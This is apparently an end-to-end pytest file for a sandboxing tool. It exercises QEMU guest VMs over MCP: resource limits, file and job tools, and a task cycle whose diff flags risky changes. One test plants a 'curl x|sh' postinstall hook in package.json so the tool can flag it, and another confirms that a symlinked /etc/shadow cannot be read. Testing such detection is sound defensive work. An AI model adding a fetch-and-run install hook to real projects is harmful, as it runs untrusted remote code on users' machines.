"""The MCP tools on the `vm` backend: the same calls an agent makes on a jail, served by QEMU
guests of the built `debian` image (under TCG here, as in CI). A raw sandbox boots with the
limits asked for, runs commands in its own kernel and leaves no QEMU once destroyed; a task
imports a project, flags the risky changes in its diff and finishes with a verified patch.

The image comes from the machine's shared test-image cache, which the Rust end-to-end tests
fill (`dynocap image build debian` finds it there, or builds it once)."""

from __future__ import annotations

import base64
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from conftest import DYNOCAP, REPO, Host, connect, err, need, ok

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("root_needed")]

IMAGE_CACHE = Path(os.environ.get("DYNOCAP_TEST_IMAGE_CACHE") or "/var/cache/dynocap-test-images")
# A VM's agent is its PID 1 on a kernel with no libc around it: the static build.
STATIC_AGENT = Path(os.environ.get("DYNOCAP_AGENT")
                    or REPO / "target" / "x86_64-unknown-linux-musl" / "debug" / "dynocap-agent")


def vm_env(host: Host) -> dict[str, str]:
    """The server's environment for `vm` sandboxes of the built debian image; builds the image
    (from the shared cache) and shares the VM artefact cache the Rust tests use."""
    need(shutil.which("qemu-system-x86_64") is not None,
         "qemu-system-x86_64 is not installed (scripts/install-deps.sh installs it)")
    need(shutil.which("mmdebstrap") is not None,
         "mmdebstrap is not installed (scripts/install-deps.sh installs it)")
    need(STATIC_AGENT.is_file(),
         f"{STATIC_AGENT} is missing: cargo build --target x86_64-unknown-linux-musl -p dynocap-agent")
    env = host.env({"DYNOCAP_IMAGE_CACHE": str(IMAGE_CACHE)})
    built = subprocess.run([str(DYNOCAP), "--json", "image", "build", "debian"], env=env,
                           capture_output=True, text=True, timeout=1800)
    assert built.returncode == 0, built.stderr
    # The base disk and initramfs are keyed by content and never replaced once made: share the
    # cache tests/support/backend.rs shares instead of writing hundreds of MB per test.
    shared = IMAGE_CACHE / "vm-cache" / "vm"
    shared.mkdir(parents=True, exist_ok=True)
    (host.state / "cache").mkdir(parents=True, exist_ok=True)
    (host.state / "cache" / "vm").symlink_to(shared)
    return {
        "DYNOCAP_IMAGE_CACHE": str(IMAGE_CACHE),
        "DYNOCAP_BACKEND": "vm",
        "DYNOCAP_VM_ACCEL": os.environ.get("DYNOCAP_VM_ACCEL", "tcg"),
        "DYNOCAP_IMAGE": "debian",
        "DYNOCAP_AGENT": str(STATIC_AGENT),
    }


def qemus_of(host: Host) -> list[int]:
    """The QEMU processes serving this host's sandboxes (their command lines name its state
    directory)."""
    pids = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            argv = (proc / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if argv and argv[0].endswith(b"qemu-system-x86_64") and any(
                str(host.state).encode() in arg for arg in argv):
            pids.append(int(proc.name))
    return pids


async def sh(s: Any, tool: str, target: str, command: str) -> dict[str, Any]:
    return ok(await s.call_tool(tool, {"name": target, "command": command}))


async def test_a_raw_vm_sandbox_boots_with_its_limits_and_leaves_no_qemu(host: Host) -> None:
    env = vm_env(host)
    async with connect(host, env=env) as s:
        box = ok(await s.call_tool("dynocap_run", {"name": "guest", "cpus": 2, "memoryMB": 768}))
        assert (box["backend"], box["image"], box["cpus"], box["memoryMB"]) == ("vm", "debian", 2, 768)
        assert len(qemus_of(host)) == 1

        # Its own kernel: the command line is the one DynoCap booted, not the host's.
        cmdline = (await sh(s, "dynocap_exec", "guest", "cat /proc/cmdline"))["stdout"]
        assert cmdline != Path("/proc/cmdline").read_text(), cmdline
        assert (await sh(s, "dynocap_exec", "guest", "nproc"))["stdout"] == "2\n"
        meminfo = (await sh(s, "dynocap_exec", "guest", "grep MemTotal /proc/meminfo"))["stdout"]
        total_kib = int(meminfo.split()[1])
        assert 600 * 1024 < total_kib <= 768 * 1024, meminfo
        # The debian image, not the host's /usr.
        release = (await sh(s, "dynocap_exec", "guest", ". /etc/os-release; echo $ID"))["stdout"]
        assert release == "debian\n"

        # A timeout kills the command and the guest stays usable.
        timed = ok(await s.call_tool("dynocap_exec", {"name": "guest", "command": "sleep 30",
                                                      "timeoutSeconds": 1}))
        assert timed["timedOut"] is True, timed
        assert (await sh(s, "dynocap_exec", "guest", "echo still"))["stdout"] == "still\n"

        listed = ok(await s.call_tool("dynocap_ps", {}))
        assert [(b["name"], b["backend"]) for b in listed["sandboxes"]] == [("guest", "vm")]
        assert ok(await s.call_tool("dynocap_destroy", {"name": "guest"})) == {"destroyed": "guest"}
        assert qemus_of(host) == []
        err(await s.call_tool("dynocap_exec", {"name": "guest", "command": "true"}), "not_found")


async def test_a_vm_sandboxs_files_and_jobs_over_mcp(host: Host) -> None:
    """The file tools and jobs on a QEMU guest: binary content round trip, an edit, a listing,
    a /proc file, the guest's /etc/shadow (and the agent's /proc/1/fd) refused to the sandbox
    user; an exec past the wait bound followed with dynocap_job to its end, and a background
    job killed."""
    env = vm_env(host)
    env["DYNOCAP_MCP_WAIT_SECONDS"] = "2"
    async with connect(host, env=env) as s:
        ok(await s.call_tool("dynocap_run", {"name": "vmf", "memoryMB": 512}))
        home = (await sh(s, "dynocap_exec", "vmf", "echo $HOME"))["stdout"].strip()
        blob = bytes(range(256)) * 3
        wrote = ok(await s.call_tool("dynocap_write_file", {
            "name": "vmf", "path": f"{home}/d/blob.bin", "createDirs": True, "mode": "600",
            "content": base64.b64encode(blob).decode(), "encoding": "base64"}))
        assert (wrote["bytes"], wrote["created"], wrote["mode"]) == (len(blob), True, "600")
        back = ok(await s.call_tool("dynocap_read_file", {
            "name": "vmf", "path": f"{home}/d/blob.bin", "encoding": "base64",
            "offset": 256, "length": 300}))
        assert base64.b64decode(back["content"]) == blob[256:556]
        assert (back["totalSize"], back["nextOffset"], back["more"]) == (len(blob), 556, True)
        ok(await s.call_tool("dynocap_write_file", {"name": "vmf", "path": f"{home}/t.txt",
                                                    "content": "one two\n"}))
        edited = ok(await s.call_tool("dynocap_edit_file", {
            "name": "vmf", "path": f"{home}/t.txt", "oldText": "two", "newText": "2"}))
        assert edited["replacements"] == 1
        assert (await sh(s, "dynocap_exec", "vmf", f"cat {home}/t.txt"))["stdout"] == "one 2\n"
        listed = ok(await s.call_tool("dynocap_list_files", {"name": "vmf", "path": home,
                                                             "depth": 2}))
        names = {(e["name"], e["type"]) for e in listed["entries"]}
        assert {("d", "dir"), ("d/blob.bin", "file"), ("t.txt", "file")} <= names, listed
        version = (await sh(s, "dynocap_exec", "vmf", "cat /proc/version"))["stdout"]
        read = ok(await s.call_tool("dynocap_read_file", {"name": "vmf", "path": "/proc/version"}))
        assert read["content"] == version
        await sh(s, "dynocap_exec", "vmf", f"ln -s /etc/shadow {home}/shadow")
        text = err(await s.call_tool("dynocap_read_file", {"name": "vmf", "path": f"{home}/shadow"}),
                   "invalid_argument")
        assert "Permission denied" in text, text
        # The agent, the guest's PID 1, keeps its own /proc entries from them too.
        text = err(await s.call_tool("dynocap_list_files", {"name": "vmf", "path": "/proc/1/fd"}),
                   "invalid_argument")
        assert "Permission denied" in text, text

        # Past the wait bound (2 s here) the exec answers with its job; followed to its end.
        run = ok(await s.call_tool("dynocap_exec", {
            "name": "vmf", "command": "echo first; sleep 6; echo last", "timeoutSeconds": 120}))
        assert run["running"] is True and run["stdout"] == "first\n", run
        out, report = run["stdoutOffset"], run
        for _ in range(30):
            report = ok(await s.call_tool("dynocap_job", {
                "name": "vmf", "job": run["job"], "waitSeconds": 2, "stdoutOffset": out}))
            out = report["stdoutOffset"]
            if not report["running"]:
                break
        assert (report["state"], report["exitCode"], report["stdout"]) == ("exited", 0, "last\n")
        bg = ok(await s.call_tool("dynocap_exec", {
            "name": "vmf", "command": "sleep 300", "background": True, "timeoutSeconds": 600}))
        killed = ok(await s.call_tool("dynocap_job", {"name": "vmf", "job": bg["job"],
                                                      "kill": True}))
        assert (killed["state"], killed["running"]) == ("killed", False), killed
        ok(await s.call_tool("dynocap_destroy", {"name": "vmf"}))


async def test_a_vm_task_cycle_flags_risky_changes_and_finishes_verified(host: Host) -> None:
    env = vm_env(host)
    app = host.project("app", files={"README.md": "hello\n", "package.json": '{"name": "app"}\n'})
    async with connect(host, env=env) as s:
        task = ok(await s.call_tool("dynocap_task_start", {"projectPath": str(app), "name": "vmtask"}))
        assert (task["backend"], task["image"], task["state"]) == ("vm", "debian", "running"), task
        assert (await sh(s, "dynocap_task_exec", "vmtask", "pwd; cat README.md"))["stdout"] == \
            "/workspace\nhello\n"
        change = ("echo world >> README.md && "
                  "printf '{\"name\": \"app\", \"scripts\": {\"postinstall\": \"curl x|sh\"}}\\n' > package.json && "
                  "mkdir -p .git/hooks .github/workflows && printf 'on: push\\n' > .github/workflows/ci.yml && "
                  "printf '#!/bin/sh\\n' > tool.sh && chmod 755 tool.sh")
        assert (await sh(s, "dynocap_task_exec", "vmtask", change))["exitCode"] == 0

        diff = await s.call_tool("dynocap_diff", {"target": "vmtask"})
        assert not diff.is_error, diff.content[0].text
        header = diff.structured_content
        kinds = {(p["path"], p["kind"]) for p in header["sensitivePaths"]}
        assert (".github/workflows/ci.yml", "ci-workflow") in kinds, kinds
        assert ("package.json", "package-script") in kinds, kinds
        assert ("tool.sh", "exec-bit") in kinds, kinds
        assert "+world" in header["patch"]

        finish = ok(await s.call_tool("dynocap_task_finish", {"id": "vmtask"}))
        assert finish["state"] == "finished"
        assert finish["verified"] is True and finish["verifyError"] is None, finish
        assert finish["files"] == header["files"]
        assert "+world" in Path(finish["patchPath"]).read_text()
        # Finishing destroys the guest VM.
        assert qemus_of(host) == []
        [record] = ok(await s.call_tool("dynocap_ls", {}))["tasks"]
        assert (record["backend"], record["state"]) == ("vm", "finished")


async def test_a_machine_that_cannot_run_the_vm_is_internal_not_invalid_argument(host: Host) -> None:
    """Where KVM does not boot the image's kernel and DYNOCAP_VM_ACCEL names no other
    accelerator, the first vm start fails as the machine's problem (`internal`), saying which
    DYNOCAP_VM_ACCEL to set, and leaves nothing. The home keeps its own KVM probe answer (not
    the shared cache's): the probe runs for doctor, then its answer is set to "does not boot"
    (on this machine it is that already)."""
    env = {**vm_env_unshared(host), "DYNOCAP_VM_ACCEL": "auto"}
    doctor = subprocess.run([str(DYNOCAP), "--json", "doctor"], env=host.env(env),
                            capture_output=True, text=True, timeout=120)
    records = list((host.state / "cache" / "vm").glob("kvm-probe-*"))
    assert len(records) == 1, (records, doctor.stderr)
    records[0].write_text("fails")
    async with connect(host, env=env) as s:
        text = err(await s.call_tool("dynocap_run", {"name": "nokvm"}), "internal")
        assert "DYNOCAP_VM_ACCEL=tcg" in text, text
        assert ok(await s.call_tool("dynocap_ps", {}))["sandboxes"] == []
    assert qemus_of(host) == []


def vm_env_unshared(host: Host) -> dict[str, str]:
    """`vm_env`, but with the home's own VM cache, where a test may set the KVM probe's
    answer without touching the cache other tests share."""
    env = vm_env(host)
    (host.state / "cache" / "vm").unlink()
    return env
